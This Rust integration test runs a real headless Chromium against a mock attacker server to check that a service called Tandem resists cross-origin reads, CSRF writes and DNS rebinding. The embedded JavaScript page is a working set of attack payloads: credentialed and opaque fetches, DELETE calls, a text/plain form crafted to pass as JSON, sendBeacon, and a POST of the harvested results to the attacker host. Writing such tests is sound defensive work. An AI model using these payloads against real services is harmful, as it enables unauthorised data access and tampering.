//! A page of another origin in a real browser, with and without authentication, and through a name that was rebound to the service's
//! address (DNS rebinding). It can neither read nor write.
//!
//! Runs where `TANDEM_TEST_BROWSER` names Chromium.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::time::Duration;

use serde_json::{Value, json};
use tempfile::TempDir;
use test_harness::{Http, KeysFile};

use super::Tandem;

/// How long the browser may take for its start and for all attempts of a page.
const DEADLINE: Duration = Duration::from_secs(120);

/// A name that nobody may read.
const SECRET: &str = "Zaphod Secret";

/// Tries to read and to write, and reports what each attempt brought. `ACCOUNTS` and `CARDS` are the services' addresses.
const PAGE: &str = r#"<!doctype html><iframe name="frame"></iframe><script>
const account = JSON.stringify({ beholder_name: 'Mallory', country_code: 'US' });
const json = { 'Content-Type': 'application/json' };
const attempts = {
  read: () => fetch('ACCOUNTS/accounts'),
  readWithCookies: () => fetch('ACCOUNTS/accounts', { credentials: 'include' }),
  readOpaque: () => fetch('ACCOUNTS/accounts', { mode: 'no-cors' }),
  readWithGuessedKey: () => fetch('ACCOUNTS/accounts', { headers: { Authorization: 'Bearer guess' } }),
  readDocument: () => fetch('ACCOUNTS/openapi.json'),
  write: () => fetch('ACCOUNTS/account', { method: 'POST', headers: json, body: account }),
  writeOpaque: () => fetch('ACCOUNTS/account', { method: 'POST', mode: 'no-cors', body: account }),
  writeOpaqueJson: () => fetch('ACCOUNTS/account', { method: 'POST', mode: 'no-cors', headers: json, body: account }),
  remove: () => fetch('ACCOUNTS/account?id=ID', { method: 'DELETE' }),
  removeCards: () => fetch('CARDS/card?id=ID', { method: 'DELETE', mode: 'no-cors' }),
  republish: () => fetch('ACCOUNTS/admin/republish', { method: 'POST', mode: 'no-cors', body: '{"accounts":[]}' }),
};
const outcome = async (attempt) => {
  try {
    const response = await attempt();
    return { type: response.type, status: response.status, text: await response.text() };
  } catch (error) {
    return { type: 'failed', status: 0, text: '' };
  }
};
const events = () => new Promise((resolve) => {
  const source = new EventSource('CARDS/events?from=start');
  source.onmessage = (event) => resolve({ type: 'event', status: 200, text: event.data });
  source.onerror = () => { source.close(); resolve({ type: 'failed', status: 0, text: '' }); };
});
const form = () => new Promise((resolve) => {
  const form = document.createElement('form');
  Object.assign(form, { action: 'ACCOUNTS/account', method: 'post', enctype: 'text/plain', target: 'frame' });
  const field = document.createElement('input');
  [field.name, field.value] = [account.slice(0, -1) + ',"x":"', '"}'];
  form.append(field);
  document.body.append(form);
  document.querySelector('iframe').onload = () => resolve({ type: 'sent', status: 0, text: '' });
  form.submit();
});
(async () => {
  const outcomes = {};
  for (const [name, attempt] of Object.entries(attempts)) outcomes[name] = await outcome(attempt);
  outcomes.beacon = { type: 'sent', status: 0, text: String(navigator.sendBeacon('ACCOUNTS/account', account)) };
  outcomes.form = await form();
  outcomes.events = await events();
  await fetch('/outcomes', { method: 'POST', body: JSON.stringify(outcomes) });
})();
</script>"#;

/// A server of the attacker. It serves the page at `/page`, takes the outcomes, and sends all other requests on to `target`, as a rebound
/// name does.
struct Attacker {
    address: SocketAddr,
    outcomes: Receiver<Value>,
}

impl Attacker {
    fn start(page: impl FnOnce(SocketAddr) -> String, target: SocketAddr) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
        let address = listener.local_addr().expect("a bound listener");
        let page = page(address);
        let (sender, outcomes) = channel();
        std::thread::spawn(move || {
            for client in listener.incoming().flatten() {
                let (page, sender) = (page.clone(), sender.clone());
                // A connection that breaks off is a failed attempt.
                std::thread::spawn(move || drop(answer(client, &page, target, &sender)));
            }
        });
        Attacker { address, outcomes }
    }
}

fn answer(client: TcpStream, page: &str, target: SocketAddr, outcomes: &Sender<Value>) -> std::io::Result<()> {
    let mut reader = BufReader::new(client.try_clone()?);
    let mut head = String::new();
    while !head.ends_with("\r\n\r\n") && reader.read_line(&mut head)? > 0 {}
    let length = head.lines().find_map(|line| line.to_lowercase().strip_prefix("content-length: ")?.parse().ok());
    let mut body = vec![0; length.unwrap_or(0)];
    reader.read_exact(&mut body)?;
    let mut client = client;
    let content = match head.split(' ').nth(1).unwrap_or_default() {
        "/page" => page,
        "/outcomes" => {
            // The test may have ended.
            let _ = outcomes.send(serde_json::from_slice(&body)?);
            "thanks"
        }
        _ => {
            let mut service = TcpStream::connect(target)?;
            service.write_all(head.replace("\r\nConnection: keep-alive", "\r\nConnection: close").as_bytes())?;
            service.write_all(&body)?;
            std::io::copy(&mut service, &mut client)?;
            return Ok(());
        }
    };
    let kind = "Content-Type: text/html; charset=utf-8\r\nConnection: close";
    write!(client, "HTTP/1.1 200 OK\r\n{kind}\r\nContent-Length: {}\r\n\r\n{content}", content.len())
}

/// Chromium without a window, with a new profile. It is killed when dropped.
struct Browser {
    process: Child,
    _profile: TempDir,
}

impl Browser {
    fn open(browser: &Path, url: &str) -> Self {
        let profile = TempDir::new().expect("a folder");
        let process = Command::new(browser)
            .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"])
            .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
            .arg("--host-resolver-rules=MAP *.example 127.0.0.1")
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .args(["--remote-debugging-port=0", url])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("a browser that starts");
        Browser { process, _profile: profile }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        // It may have ended already.
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

/// What the attempts of `page` brought, opened under the name `name` of the attacker's server.
fn attack(browser: &Path, tandem: &Tandem, name: &str, of_services: impl Fn(SocketAddr) -> [String; 2]) -> Value {
    let page = |address| {
        let [accounts, cards] = of_services(address);
        PAGE.replace("ACCOUNTS", &accounts).replace("CARDS", &cards)
    };
    let attacker = Attacker::start(page, tandem.services[0]);
    let _browser = Browser::open(browser, &format!("http://{name}:{}/page", attacker.address.port()));
    attacker.outcomes.recv_timeout(DEADLINE).expect("the page reports its outcomes")
}

#[test]
fn a_page_of_another_origin_can_neither_read_nor_write() {
    let Some(browser) = std::env::var_os("TANDEM_TEST_BROWSER") else { return };
    let folder = TempDir::new().unwrap();
    let file = KeysFile::new(folder.path());
    let key = format!("Bearer {}", file.add("shop", "admin").0);
    for settings in [&[][..], &file.settings()] {
        let tandem = Tandem::start(settings);
        let accounts = Http::new(tandem.services[0]);
        let accounts = if settings.is_empty() { accounts } else { accounts.with_authorization(key.clone()) };
        let account = accounts.post("/account", &json!({ "beholder_name": SECRET, "country_code": "US" })).expect(201);
        let check = |outcomes: &Value, is_rebound: bool| {
            let place = format!("{settings:?}, rebound: {is_rebound}: {outcomes:#}");
            assert!(outcomes.as_object().is_some_and(|outcomes| outcomes.len() == 14), "{place}");
            assert!(!outcomes.to_string().contains(SECRET), "{place}");
            for (name, outcome) in outcomes.as_object().expect("outcomes") {
                // Documents are public where callers are authenticated.
                if name == "readDocument" && is_rebound && !settings.is_empty() {
                    continue;
                }
                let (kind, status) = (outcome["type"].as_str().expect("a type"), outcome["status"].as_u64());
                let is_nothing = ["failed", "opaque", "sent"].contains(&kind) && outcome["text"].as_str() != Some("{");
                assert!(is_nothing || is_rebound && matches!(status, Some(401 | 403)), "{name}: {place}");
            }
            let listed = accounts.get("/accounts").expect(200);
            assert_eq!(listed["accounts"], json!([account]), "{place}");
        };
        let [at_accounts, at_cards] = tandem.services.map(|service| format!("http://{service}"));
        let other = attack(Path::new(&browser), &tandem, "evil.example", |_| [at_accounts.clone(), at_cards.clone()]);
        check(&other, false);
        // The page and the service have one origin for the browser.
        let rebound = attack(Path::new(&browser), &tandem, "rebound.example", |_| Default::default());
        check(&rebound, true);
    }
}
